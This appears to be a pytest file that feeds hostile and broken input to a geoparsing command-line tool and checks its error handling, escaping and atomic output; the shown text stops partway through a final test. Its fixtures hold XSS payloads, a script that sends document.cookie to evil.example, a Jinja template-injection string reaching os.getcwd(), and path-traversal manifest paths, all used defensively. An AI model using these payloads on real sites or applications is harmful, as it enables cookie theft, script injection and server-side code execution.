"""Hostile and broken input through the real commands (`geo extract`, `geo check`, `geo map`).

Every run that cannot do its job exits with its documented status (2 bad input, 3 gazetteer,
1 an output that cannot be written), prints exactly one line on stderr and no traceback, and
leaves no partial output behind: the previous output stays as it was. Input that can be read
sensibly (another encoding, a web page with scripts) is read, and nothing from it is executed
in the exported map. Two property tests (hypothesis) feed arbitrary text through the map and the
pipeline. Real files, the real gazetteer, the real CLI in a subprocess.
"""
from __future__ import annotations

import json
import os
import random
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from html.parser import HTMLParser
from pathlib import Path

import pytest
from conftest import ARTICLES, run_geo
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.document import Article
from geo.map import MapOptions, render_map
from geo.map.places_layer import POPUP_SEPARATOR
from geo.text.articles import http_address
from geo.pipeline import Pipeline
from geo.text import decode_text

SMALL = ARTICLES / "002_3f5b2e0748cc9337.txt"
COMMANDS = ("extract", "check", "map")
OUTPUT_NAME = {"extract": "out.jsonl", "check": "out.txt", "map": "out.html"}

# A short report naming places, with characters that encodings damage (’ and ï).
CLEAN = ("Ukrainian forces entered Balakliia on Thursday, officials in Kharkiv said.\n\n"
         "Izium lies 120 km south-east of Kharkiv. Residents’ homes in Kupiansk were shelled, "
         "and trains to Kyïv stopped.\n")


def out_args(command: str, folder: Path) -> list[str]:
    return ["-o", str(folder / OUTPUT_NAME[command])]


@pytest.fixture(scope="module")
def env(gazetteer_path) -> dict:
    return {"GEO_GAZETTEER": str(gazetteer_path)}


def assert_fails(result: subprocess.CompletedProcess, status: int, *fragments: str) -> str:
    """The documented status, one line on stderr that names the problem, no traceback."""
    err = result.stderr.decode("utf-8", "replace")
    assert result.returncode == status, err
    assert "Traceback" not in err, err
    assert err.startswith("geo: error: ") and err.endswith("\n") and err.count("\n") == 1, err
    for fragment in fragments:
        assert fragment in err, err
    return err


def assert_nothing_written(folder: Path, keep: tuple[Path, ...] = ()) -> None:
    """No output and no temporary file: only what was there before."""
    left = sorted(p for p in folder.rglob("*") if p.is_file() and p not in keep)
    assert not left, left


def temp_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob(".*.tmp"))


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


# --- files that are not articles ----------------------------------------------------------------

def _pdf() -> bytes:
    return b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _png() -> bytes:
    # A real 1x1 PNG (signature, IHDR, IDAT, IEND).
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", (1).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00")
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def _noise() -> bytes:
    return random.Random(7).randbytes(4096)   # no signature: told from text by its control characters


NOT_ARTICLES = {
    # name: (file name, bytes, what the error says, commands run)
    "empty": ("empty.txt", b"", "empty file", COMMANDS),
    "whitespace": ("blank.txt", b" \n\t\r\n  ", "the file holds only whitespace", ("extract",)),
    "pdf": ("report.pdf", _pdf(), "not a text file: it is a PDF document", COMMANDS),
    "pdf named .txt": ("report.txt", _pdf(), "not a text file: it is a PDF document", ("extract",)),
    "png": ("photo.png", _png(), "not a text file: it is a PNG image", COMMANDS),
    "binary noise": ("noise.txt", _noise(), "not a text file", ("extract",)),
}


@pytest.mark.parametrize("case,command", [(c, cmd) for c, (_, _, _, cmds) in NOT_ARTICLES.items() for cmd in cmds])
def test_a_file_that_is_no_article_is_refused_in_one_line(tmp_path, env, case, command):
    name, data, message, _ = NOT_ARTICLES[case]
    given = tmp_path / name
    given.write_bytes(data)
    out = tmp_path / "out"
    out.mkdir()
    result = run_geo(command, str(given), *out_args(command, out), env=env)
    assert_fails(result, 2, f"{given}: {message}")
    assert_nothing_written(out)


def test_an_endless_device_is_refused_not_read_into_memory(tmp_path, env):
    # /dev/zero never ends: the read stops at the documented limit (100 MB) instead of filling memory.
    result = run_geo("extract", "/dev/zero", "-o", str(tmp_path / "out.jsonl"), env=env)
    assert_fails(result, 2, "/dev/zero: too large (over 100 MB)")
    assert_nothing_written(tmp_path)


# --- encodings: read sensibly, offsets into the decoded text ------------------------------------

def test_broken_and_foreign_encodings_give_the_same_mentions_as_clean_utf8(tmp_path, env):
    utf8 = CLEAN.encode("utf-8")
    first, second = CLEAN.split("\n\n")
    files = {
        "clean.txt": utf8,
        # invalid UTF-8: a Windows-1252 apostrophe in UTF-8 text (a file edited in two editors)
        "invalid.txt": utf8.replace("’".encode("utf-8"), b"\x92"),
        "utf16le.txt": b"\xff\xfe" + CLEAN.encode("utf-16-le"),
        "utf16be.txt": b"\xfe\xff" + CLEAN.encode("utf-16-be"),
        "utf8bom.txt": b"\xef\xbb\xbf" + utf8,
        # two encodings in one file: a UTF-8 paragraph, then a Windows-1252 one
        "mixed.txt": (first + "\n\n").encode("utf-8") + second.encode("cp1252"),
    }
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    assert decode_text(files["mixed.txt"])[0] == CLEAN        # (the mixed file really is mixed, and read whole)
    result = run_geo("extract", *(str(tmp_path / n) for n in files), "--format", "jsonl", "--unresolved", env=env)
    assert result.returncode == 0 and not result.stderr, result.stderr.decode()
    by_article: dict[str, list] = {name: [] for name in files}
    for line in result.stdout.decode("utf-8").splitlines():
        m = json.loads(line)
        assert CLEAN[m["start"]:m["end"]] == m["text"]        # offsets into the decoded text, whatever the bytes
        by_article[m["article"]].append((m["start"], m["end"], m["text"], m["geonameid"]))
    expected = by_article.pop("clean.txt")
    assert {"Balakliia", "Izium", "Kupiansk", "Kyïv"} <= {text for _, _, text, _ in expected}
    for name, found in by_article.items():
        assert found == expected, name


# --- web pages: scripts, handlers, javascript: and data: links ----------------------------------

HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><title>Shelling near Izium</title>
<script>document.write('<p>Kupiansk</p>'); fetch('https://evil.example/?c=' + document.cookie)</script>
<link rel="canonical" href="javascript:alert('canonical')">
</head>
<body onload="alert('Lyman')">
<article>
<h1>Shelling near Izium</h1>
<p>Russian forces shelled Izium in Kharkiv region on Monday, officials said.
<a href="javascript:alert('link')">Read more</a> <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a data link</a></p>
<p onclick="alert('Lyman')" onmouseover="alert(2)">Residents of Balakliia fled toward Kharkiv.
<img src="x" onerror="alert('img')"> <svg onload="alert('svg')"></svg></p>
<script>var where = "Lyman"; alert(where)</script>
<p>An unrelated &lt;script&gt;alert('text')&lt;/script&gt; in the text, shown as text.</p>
</article></body></html>
"""


def test_a_web_page_gives_its_text_and_never_its_scripts(tmp_path, env):
    page = tmp_path / "shelling.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    result = run_geo("extract", str(page), "--format", "jsonl", "--unresolved", env=env)
    assert result.returncode == 0, result.stderr.decode()
    found = [json.loads(line)["text"] for line in result.stdout.decode("utf-8").splitlines()]
    assert {"Izium", "Kharkiv region", "Balakliia", "Kharkiv"} <= set(found)
    assert "Kupiansk" not in found and "Lyman" not in found      # named only by scripts and handlers

    out = tmp_path / "map" / "shelling.html"
    result = run_geo("map", str(page), "-o", str(out), "--offline", env=env)
    assert result.returncode == 0, result.stderr.decode()
    check_map_files(out, urls=set())
    text = article_page_text((out.parent / "shelling" / "articles" / "shelling.html").read_text(encoding="utf-8"))
    assert "<script>alert('text')</script>" in text              # the page's text, kept as text


# --- manifests ----------------------------------------------------------------------------------

def test_manifest_fields_are_shown_as_text_and_bad_urls_dropped(tmp_path, env):
    (tmp_path / "report.txt").write_text(CLEAN, encoding="utf-8")
    title = "<img src=x onerror=alert(1)>"
    entry = {"path": "report.txt", "url": "javascript:alert(document.domain)", "title": title,
             "source": "<b onmouseover=alert(2)>Reuters</b>", "date": "2022-09-10"}
    manifest = tmp_path / "manifest.jsonl"
    manifest.write_text(json.dumps(entry) + "\n", encoding="utf-8")
    out = tmp_path / "map" / "m.html"
    result = run_geo("map", str(manifest), "-o", str(out), "--offline", env=env)
    assert result.returncode == 0, result.stderr.decode()
    check_map_files(out, urls=set())
    page = (out.parent / "m" / "articles" / "report.html").read_text(encoding="utf-8")
    assert f"<h1>{title.replace('<', '&lt;').replace('>', '&gt;')}</h1>" in page     # the title, as text
    assert "javascript:" not in page.split("Repaired on intake")[0]                  # (the note says what was dropped)


# Jinja syntax: folium renders each element's output a second time as a Jinja template, where
# input must stay text (it ran as code: the last payload read the working directory).
JINJA = ("{{ 'evaluated' ~ '-by-jinja' }} {% if true %}evaluated-by-jinja{% endif %} "
         "{{ cycler.__init__.__globals__.os.getcwd() }} {# {%")


def test_template_syntax_in_input_is_text_never_code(tmp_path, env):
    (tmp_path / "a.txt").write_text("Izium lies 120 km south-east of Kharkiv. " + JINJA + "\n", encoding="utf-8")
    (tmp_path / "b.txt").write_text("Kupiansk lies in Kharkiv region.\n", encoding="utf-8")
    entries = [{"path": "a.txt", "title": "A " + JINJA, "source": JINJA, "url": "https://news.example/{{ 7*7 }}"},
               {"path": "b.txt", "title": "B", "source": "S"}]
    manifest = tmp_path / "manifest.jsonl"
    manifest.write_text("".join(json.dumps(e) + "\n" for e in entries), encoding="utf-8")
    workdir = tmp_path / "cwd-3f9a71"          # what getcwd() would have put in the page
    workdir.mkdir()
    out = tmp_path / "map" / "m.html"
    result = run_geo("map", str(manifest), "-o", str(out), "--title", "Map " + JINJA, "--offline", env=env, cwd=workdir)
    assert result.returncode == 0, result.stderr.decode()
    check_map_files(out, urls={"https://news.example/{{ 7*7 }}"})
    html = out.read_text(encoding="utf-8")
    assert map_options(html)["title"] == "Map " + JINJA              # the text, as given
    start = re.search(r"\}\)\(window\.geoMap, (?=\[\{\"d\")", html).end()   # the filter's articles: titles set as text
    assert "A " + JINJA in [a["t"] for a in json.JSONDecoder().raw_decode(html, start)[0]]
    store = re.search(r'<script type="text/x-geo-popups"[^>]*>(.*?)</script>', html, re.DOTALL).group(1)
    popups = [_text(popup) for popup in store.split(POPUP_SEPARATOR)]
    assert any(JINJA in popup for popup in popups)
    page = (out.parent / "m" / "articles" / "a.html").read_text(encoding="utf-8")
    assert JINJA in article_page_text(page)
    for path in [out, *(out.parent / "m" / "articles").glob("*.html")]:
        assert "cwd-3f9a71" not in path.read_text(encoding="utf-8")


CLIMBS = {
    "up": "../secret.txt",
    "absolute": "/etc/hostname",
    "through a link": "link.txt",
}


@pytest.mark.parametrize("case,command", [("up", c) for c in COMMANDS] + [("absolute", "extract"), ("through a link", "extract")])
def test_a_manifest_path_out_of_its_folder_is_refused(tmp_path, env, case, command):
    (tmp_path / "secret.txt").write_text(CLEAN, encoding="utf-8")
    folder = tmp_path / "articles"
    folder.mkdir()
    (folder / "link.txt").symlink_to(tmp_path / "secret.txt")
    manifest = folder / "manifest.jsonl"
    manifest.write_text(json.dumps({"path": CLIMBS[case]}) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    result = run_geo(command, str(manifest), *out_args(command, out), env=env)
    assert_fails(result, 2, f"line 1: path {CLIMBS[case]!r} leads out of the manifest's folder")
    assert_nothing_written(out)


# --- the gazetteer ------------------------------------------------------------------------------

def _truncated(source: Path, target: Path) -> None:
    with source.open("rb") as f, target.open("wb") as out:
        out.write(f.read(source.stat().st_size // 2))


def _overwritten(source: Path, target: Path) -> None:
    # Pages in the middle of the file overwritten (a bad disk, a partial copy): header and schema intact.
    shutil.copyfile(source, target)
    rng = random.Random(3)
    size = target.stat().st_size
    with target.open("r+b") as f:
        for offset in range(4 << 20, size - (1 << 20), 4 << 20):
            f.seek(offset)
            f.write(rng.randbytes(256 << 10))


def _bad_name_index(source: Path, target: Path) -> None:
    # A database SQLite reads without complaint whose name index (a marisa-trie blob) is cut short.
    shutil.copyfile(source, target)
    with sqlite3.connect(target) as con:
        con.execute("UPDATE blobs SET value = substr(value, 1, 4096) WHERE key = 'names.marisa'")


def _other_database(source: Path, target: Path) -> None:
    with sqlite3.connect(target) as con:
        con.execute("CREATE TABLE notes (body TEXT)")


GAZETTEERS = {
    "missing": (None, "gazetteer database not found at"),
    "empty": (lambda s, t: t.write_bytes(b""), "not a readable gazetteer database"),
    "not a database": (lambda s, t: t.write_bytes(random.Random(5).randbytes(8192)), "not a readable gazetteer database"),
    "truncated": (_truncated, "gazetteer database"),
    "overwritten pages": (_overwritten, "gazetteer database is corrupt"),
    "corrupt name index": (_bad_name_index, "the name index is corrupt"),
    "another database": (_other_database, "not a readable gazetteer database"),
}


@pytest.mark.parametrize("case,command", [(c, "extract") for c in GAZETTEERS] + [("missing", "check"), ("truncated", "map")])
def test_a_missing_or_corrupt_gazetteer_is_status_3(tmp_path, gazetteer_path, case, command):
    make, message = GAZETTEERS[case]
    db = tmp_path / "geo.sqlite"
    if make is not None:
        make(gazetteer_path, db)
    out = tmp_path / "out"
    out.mkdir()
    result = run_geo(command, str(SMALL), *out_args(command, out), env={"GEO_GAZETTEER": str(db)})
    err = assert_fails(result, 3, message)
    assert "build" in err                       # and says how to mend it
    assert_nothing_written(out)


# --- outputs that cannot be written -------------------------------------------------------------

@pytest.fixture
def tmpfs(tmp_path):
    """A small tmpfs of our own (tests run as root here; skipped where mounting is not allowed)."""
    mounted = []

    def mount(size: str) -> Path:
        where = tmp_path / f"tmpfs{len(mounted)}"
        where.mkdir()
        done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size},mode=0755", "tmpfs", str(where)], capture_output=True)
        if done.returncode != 0:
            pytest.skip(f"cannot mount a tmpfs here (needs root and CAP_SYS_ADMIN): {done.stderr.decode().strip()}")
        mounted.append(where)
        return where

    yield mount
    for where in mounted:
        subprocess.run(["umount", "-l", str(where)], capture_output=True)


def remount(where: Path, options: str) -> None:
    subprocess.run(["mount", "-o", f"remount,{options}", str(where)], check=True, capture_output=True)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_read_only_output_folder_fails_before_the_work_and_keeps_what_was_there(tmpfs, env, command):
    # chmod does not stop root: a read-only mount does.
    folder = tmpfs("1m")
    previous = folder / OUTPUT_NAME[command]
    previous.write_text("the previous output\n", encoding="utf-8")
    remount(folder, "ro")
    result = run_geo(command, str(SMALL), *out_args(command, folder), env=env)
    assert_fails(result, 1, "cannot write", "read-only file system")
    assert previous.read_text(encoding="utf-8") == "the previous output\n"
    assert sorted(folder.iterdir()) == [previous]
    # Refused before the work: even without a gazetteer, the output is what is reported.
    result = run_geo(command, str(SMALL), *out_args(command, folder), env={"GEO_GAZETTEER": str(folder / "none.sqlite")})
    assert_fails(result, 1, "read-only file system")


def test_a_full_disk_keeps_the_previous_extract(tmpfs, env):
    folder = tmpfs("64k")
    out = folder / "mentions.jsonl"
    first = run_geo("extract", str(SMALL), "--format", "jsonl", "-o", str(out), env=env)
    assert first.returncode == 0, first.stderr.decode()
    before = out.read_bytes()
    # Every reference article, with the unresolved names: far more than the 64 KB the disk has.
    result = run_geo("extract", str(ARTICLES), "--format", "json", "--unresolved", "-o", str(out), env=env)
    assert_fails(result, 1, f"{out}: cannot write", "No space left on device")
    assert out.read_bytes() == before
    assert not temp_files(folder)


def test_a_full_disk_keeps_the_previous_map_and_pages(tmpfs, env):
    folder = tmpfs("16m")
    out = folder / "m.html"
    first = run_geo("map", str(SMALL), "-o", str(out), "--offline", env=env)
    assert first.returncode == 0, first.stderr.decode()
    before = snapshot(folder)
    used = shutil.disk_usage(folder).used
    # Room for half as much again: the new map of five articles cannot be written beside the old one.
    remount(folder, f"size={used + used // 2}")
    result = run_geo("map", str(ARTICLES), "-o", str(out), "--offline", env=env)
    assert_fails(result, 1, "cannot write the map", "No space left on device")
    assert snapshot(folder) == before
    assert not temp_files(folder)


# --- interrupted runs and concurrent writers ----------------------------------------------------

def _start(*args: str, env: dict) -> subprocess.Popen:
    # Ctrl-C as a user at a terminal sends it: the run's SIGINT at its default, whatever this process has
    # (a test run started in the background, as CI may start it, ignores SIGINT, and its children inherit that)
    return subprocess.Popen([sys.executable, "-m", "geo", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            env={**os.environ, **env}, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))


@pytest.fixture(scope="module")
def previous_map(tmp_path_factory, env) -> Path:
    folder = tmp_path_factory.mktemp("previous")
    out = folder / "m.html"
    result = run_geo("map", str(SMALL), "-o", str(out), "--offline", env=env)
    assert result.returncode == 0, result.stderr.decode()
    return out


@pytest.fixture(scope="module")
def long_article(tmp_path_factory) -> Path:
    """The reference articles repeated to 20 MB: a map of it takes far longer than two seconds even on a
    fast machine (3 MB once finished in under two), so a signal sent two
    seconds in finds the run at work."""
    unit = b"".join(p.read_bytes().rstrip() + b"\n\n" for p in sorted(ARTICLES.glob("*.txt")))
    path = tmp_path_factory.mktemp("long") / "long.txt"
    path.write_bytes(unit * (20_000_000 // len(unit)))
    return path


@pytest.mark.parametrize("how,status,said", [(signal.SIGINT, 130, "geo: interrupted"), (signal.SIGTERM, 143, "geo: terminated"),
                                             (signal.SIGKILL, -signal.SIGKILL, None)])
def test_an_interrupted_map_leaves_the_previous_one(tmp_path, env, previous_map, long_article, how, status, said):
    folder = tmp_path / "maps"
    shutil.copytree(previous_map.parent, folder)
    before = snapshot(folder)
    run = _start("map", str(long_article), "-o", str(folder / "m.html"), "--offline", env=env)
    time.sleep(2.0)        # past start-up, while the article is read and resolved
    run.send_signal(how)
    _, err = run.communicate(timeout=120)
    assert run.returncode == status, err.decode()
    if said:
        assert err.decode().strip().splitlines()[-1] == said and "Traceback" not in err.decode()
    assert snapshot(folder) == before
    assert not temp_files(folder)


def test_a_killed_writers_temporary_files_are_removed_by_the_next_run(tmp_path, env):
    # A writer killed outright (SIGKILL) cannot clean up: the next run does, but never touches the
    # temporary file of a writer that still runs (here: this test's own process).
    done = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, check=True)
    dead = int(done.stdout)
    (tmp_path / "m" / "articles").mkdir(parents=True)
    stale = [tmp_path / f".m.html.{dead}.k2j4x8.tmp", tmp_path / "m" / "articles" / f".page.html.{dead}.q0w9e8.tmp"]
    live = tmp_path / f".m.html.{os.getpid()}.a1b2c3.tmp"
    for path in [*stale, live]:
        path.write_text("<!DOCTYPE html><html><body>half a m", encoding="utf-8")
    result = run_geo("map", str(SMALL), "-o", str(tmp_path / "m.html"), "--offline", env=env)
    assert result.returncode == 0, result.stderr.decode()
    assert temp_files(tmp_path) == [live]


def test_two_maps_written_at_once_leave_one_complete_map(tmp_path, env):
    out = tmp_path / "m.html"
    runs = [_start("map", str(ARTICLES), "-o", str(out), "--offline", env=env) for _ in range(2)]
    for run in runs:
        _, err = run.communicate(timeout=300)
        assert run.returncode == 0, err.decode()
    check_map_files(out, urls=set())                     # complete: it parses, its scripts match its policy
    assert len(list((tmp_path / "m" / "articles").glob("*.html"))) == 5
    assert not temp_files(tmp_path)


def test_two_extracts_written_at_once_leave_one_complete_output(tmp_path, env):
    out = tmp_path / "mentions.json"
    one, two = ARTICLES / "000_9cc167e4d38cbec8.txt", ARTICLES / "001_de4934e4de4b21cf.txt"
    runs = [_start("extract", str(path), "--format", "json", "-o", str(out), env=env) for path in (one, two, one, two)]
    for run in runs:
        _, err = run.communicate(timeout=300)
        assert run.returncode == 0, err.decode()
    records = json.loads(out.read_text(encoding="utf-8"))    # one whole JSON document, from one run
    assert records and len({r["article"] for r in records}) == 1
    assert not temp_files(tmp_path)


# --- a 50 MB article ----------------------------------------------------------------------------

def test_a_50_mb_article_is_read_whole_with_bounded_memory(tmp_path, env, gaz):
    # The reference articles, each ending a paragraph, repeated to 50 MB (figures: tests/benchmarks/bench_large_input.py).
    unit = b"".join(p.read_bytes().rstrip() + b"\n\n" for p in sorted(ARTICLES.glob("*.txt")))
    copies = -(-50_000_000 // len(unit))
    big = tmp_path / "big.txt"
    big.write_bytes(unit * copies)
    out = tmp_path / "big.jsonl"
    measure = ("import resource, subprocess, sys; code = subprocess.run(sys.argv[1:]).returncode; "
               "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(code)")
    result = subprocess.run([sys.executable, "-c", measure, sys.executable, "-m", "geo", "extract", str(big),
                             "--format", "jsonl", "--unresolved", "-o", str(out)],
                            capture_output=True, env={**os.environ, **env}, timeout=1200)
    assert result.returncode == 0 and not result.stderr, result.stderr.decode()
    peak_mb = int(result.stdout) / 1024
    assert peak_mb < 2000, f"peak memory {peak_mb:.0f} MB"     # generous: about 700 MB measured

    # The last copy's mentions are the ones of the text read alone, at offsets into the whole text.
    text = decode_text(unit)[0]
    alone = Pipeline(gaz, check_claims=False).locate(Article("unit", text))
    expected = sorted((m.start, m.end, m.text) for m in alone.mentions + alone.modifiers + alone.unresolved)
    last = (copies - 1) * len(text)
    found, count = [], 0
    with out.open(encoding="utf-8") as f:
        for line in f:
            count += 1
            m = json.loads(line)
            if m["start"] >= last:
                found.append((m["start"] - last, m["end"] - last, m["text"]))
    assert sorted(found) == expected
    assert abs(count - copies * len(expected)) <= copies * len(expected) // 100


# --- properties: nothing from the input is ever markup or script in the map ---------------------

# Fragments that would run or escape if they were pasted into the page unescaped; "xss" marks them.
HOSTILE = ["<script>xss()</script>", "</script><script>xss()</script>", "<img src=x onerror=xss()>",
           "\" onmouseover=\"xss()", "' onfocus='xss()", "javascript:xss()", "<svg onload=xss()>", "<!--", "-->",
           "]]>", "<style>body{xss:1}</style>", "<a href=\"javascript:xss()\">x</a>", "{{ xss }}", "${xss}",
           "\u2028", "\u2029", "&amp;", "&lt;b&gt;", "\\", "</article>", "</textarea>", "<iframe src=xss>",
           "<base href=//xss.example/>", "<meta http-equiv=refresh content=0;url=javascript:xss()>", "\u202e",
           "{{ 'x' ~ 'ss' }}", "{% if true %}xss{% endif %}", "{#", "#}", "{%", "}}", "{{"]
PLACE_WORDS = ["Izium", "Kharkiv", "Kharkiv region", "Balakliia", "Kupiansk", "Kyiv", " lies 120 km south-east of ",
               " in ", ", ", ". ", " ", "\n", "\n\n"]
pieces = st.one_of(st.sampled_from(HOSTILE), st.sampled_from(PLACE_WORDS), st.text(max_size=12))
hostile_text = st.lists(pieces, max_size=25).map("".join)
urls = st.one_of(st.none(), st.sampled_from(["javascript:xss()", " JaVaScRiPt:xss()", "data:text/html,<script>xss()</script>",
                                             "vbscript:xss", "//xss.example/", "https://news.example/a?b=<xss>&c=\"'",
                                             "http://news.example/\"><script>xss()</script>"]),
                 hostile_text, hostile_text.map(lambda t: "https://news.example/" + t))
articles = st.builds(lambda i, t, title, source, url, date: Article(i or "x", t, title=title, source=source, url=url, date=date),
                     hostile_text, hostile_text, st.none() | hostile_text, st.none() | hostile_text, urls,
                     st.none() | hostile_text)
CONSTANT_LINKS = ("https://www.geonames.org/", "https://creativecommons.org/", "https://www.openstreetmap.org/",
                  "https://www.naturalearthdata.com/", "https://leafletjs.com")
JSON_STRING = re.compile(r'"(?:[^"\\\n]|\\.)*"')
HTML_STRINGS = re.compile(r'"popup": ("(?:[^"\\\n]|\\.)*")|("(?:[^"\\\n]|\\.)*") : group_switch_\d+')
ATTRIBUTION = re.compile(r'"attribution": (\[(?:"(?:[^"\\\n]|\\.)*"(?:, )?)*\])')


class _Page(HTMLParser):
    """Tags, attributes, raw script and style text, and the article's text, as a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.raw: list[tuple[str, str]] = []        # (script or style, its text)
        self._in: str | None = None
        self._article_depth = 0
        self.article_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "script" and ("type", "text/x-geo-popups") in attrs:
            tag = "popups"      # the map's inert block of popups: markup, checked as such (check_map_files)
        self.tags.append((tag, attrs))
        if tag in ("script", "style", "popups"):
            self._in = tag
        if tag == "article" and ("class", "text") in attrs:
            self._article_depth = 1
        elif self._article_depth and tag != "br":
            self._article_depth += 1

    def handle_endtag(self, tag):
        if tag in ("script", "style", "popups"):
            self._in = None
        if self._article_depth:
            self._article_depth -= 1

    def handle_data(self, data):
        if self._in:
            self.raw.append((self._in, data))
        elif self._article_depth:
            self.article_text.append(data)


def article_page_text(html: str) -> str:
    page = _Page()
    page.feed(html)
    return "".join(page.article_text)


def map_options(html: str) -> dict:
    """The options the map's own script is given (its title, its attribution)."""
    start = re.search(r"\}\)\(map_\d+, ", html).end()
    return json.JSONDecoder().raw_decode(html, start)[0]


def _text(html: str) -> str:
    """The text an HTML fragment shows."""
    parts: list[str] = []
    parser = HTMLParser(convert_charrefs=True)
    parser.handle_data = parts.append
    parser.feed(html)
    parser.close()
    return "".join(parts)


def check_html(html: str, urls: set[str], *, scripts: int) -> _Page:
    """Assert that ``html`` holds no markup, handler, link or script that came from input."""
    page = _Page()
    page.feed(html)
    page.close()
    assert sum(tag == "script" for tag, _ in page.tags) == scripts
    for tag, attrs in page.tags:
        assert tag not in ("img", "iframe", "svg", "object", "embed", "base", "form", "textarea"), tag
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name, value)
            value = value or ""
            if name in ("href", "src", "action", "formaction"):
                if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", value):   # an absolute address: one of ours, or an http(s) url given
                    assert value.startswith(CONSTANT_LINKS) or value in urls, (tag, name, value)
                else:                                               # a page of the map, by its file-safe name
                    assert re.fullmatch(r"[A-Za-z0-9._/%-]*(#[A-Za-z0-9=_-]*)?", value), (tag, name, value)
            elif "xss" in value:
                assert name in ("title", "alt", "aria-label") or name.startswith("data-"), (tag, name, value)
            if name == "http-equiv":
                assert value.lower() in ("content-security-policy", "content-type"), value
    for kind, text in page.raw:
        # input reaches a script only inside JSON strings, and a style never
        if kind != "popups":
            assert "xss" not in (JSON_STRING.sub('""', text) if kind == "script" else text), text[:200]
    return page


def check_map_files(out: Path, urls: set[str]) -> None:
    """The map and each of its article pages, and every popup and label the map's scripts insert."""
    html = out.read_text(encoding="utf-8")
    page = check_html(html, urls, scripts=4)     # ours only: Leaflet and its plugin, the map, the claims panel
    hashes = re.search(r"script-src ([^;]*);", html).group(1).split()
    assert len(hashes) == 4 and html.rstrip().endswith("</html>")
    ours = "\n".join([text for kind, text in page.raw if kind == "script"][2:])   # after the two inlined libraries
    # The strings that Leaflet inserts as markup: popups, the layer control's labels, the attribution
    # (the others, names and titles, are set as textContent).
    markup = [json.loads(popup or label) for popup, label in HTML_STRINGS.findall(ours)]
    markup += [item for items in ATTRIBUTION.findall(ours) for item in json.loads(items)]
    # The places' popups: the page's inert block, cut at POPUP_SEPARATOR (places.js makes each with innerHTML).
    markup += [popup for kind, text in page.raw if kind == "popups" for popup in text.split(POPUP_SEPARATOR)]
    assert markup
    for value in markup:
        check_html(value, urls, scripts=0)
    for path in sorted((out.parent / out.stem / "articles").glob("*.html")):
        check_html(path.read_text(encoding="utf-8"), urls, scripts=0)


@pytest.fixture(scope="module")
def pipeline(gaz) -> Pipeline:
    return Pipeline(gaz)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(docs=st.lists(articles, min_size=1, max_size=3), title=hostile_text)
def test_map_never_holds_unescaped_input(gaz, pipeline, docs, title):
    documents = [pipeline.process(a) for a in docs]
    with tempfile.TemporaryDirectory() as tmp:
        out = Path(tmp) / "m.html"
        render_map(documents, gaz, out, MapOptions(title=title or "t", offline=True))
        written = {p.relative_to(tmp).as_posix() for p in Path(tmp).rglob("*") if p.is_file()}
        pages = {f"m/articles/{p.name}" for p in (Path(tmp) / "m" / "articles").glob("*.html")}
        assert written == {"m.html"} | pages and len(pages) == len(docs)     # no file outside the map's folder
        check_map_files(out, urls={a.url for a in docs if http_address(a.url)})
        html = out.read_text(encoding="utf-8")
        assert map_options(html)["title"] == (title or "t")                 # text, not evaluated as a template
        if len(docs) > 1:                                                     # the filter: a title per article (set as text)
            start = re.search(r"\}\)\(window\.geoMap, (?=\[\{\"d\")", html).end()
            labels = [a["t"] for a in json.JSONDecoder().raw_decode(html, start)[0]]
            for i, a in enumerate(docs):
                shown = (a.title or "").strip() or a.id or f"article {i + 1}"
                assert shown in labels, (shown, labels)
        for doc in documents:                                                 # and the text, all of it, as text
            texts = [article_page_text(p.read_text(encoding="utf-8")) for p in sorted((Path(tmp) / "m" / "articles").glob("*.html"))]
            assert doc.article.text.replace("\r\n", "\n").replace("\r", "\n") in [t.replace("\r\n", "\n").replace("\r", "\n") for t in texts]


# --- properties: the pipeline never raises, and its offsets slice to the mention ----------------

_odd_text = st.sampled_from([
    "\x00", "\u0301", "\u0308\u0301", "\u202e", "\u200f", "\u200b", "\ufeff", "\u00a0", "\u2009", "\t", "\r\n",
    "كييف", "חרקוב", "Харків", "Ха\u0301рків", "Kyi\u0308v", "İzmir", "ǅ", "ﬁ", "𝐊𝐲𝐢𝐯", "🇺🇦", "Ⅻ",
    "a" * 5000, "Kharkiv" * 700, "BuchaNear" * 300, "KYIV/HRAKOVE, Ukraine", "“", "”", "(", ")", "'s", "’s",
])
_texts = st.one_of(
    st.text(),                                                        # anything but lone surrogates
    st.text(alphabet=st.characters(codec=None, categories=None), max_size=50),   # including them
    st.lists(st.one_of(pieces, _odd_text), max_size=40).map("".join),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(text=_texts)
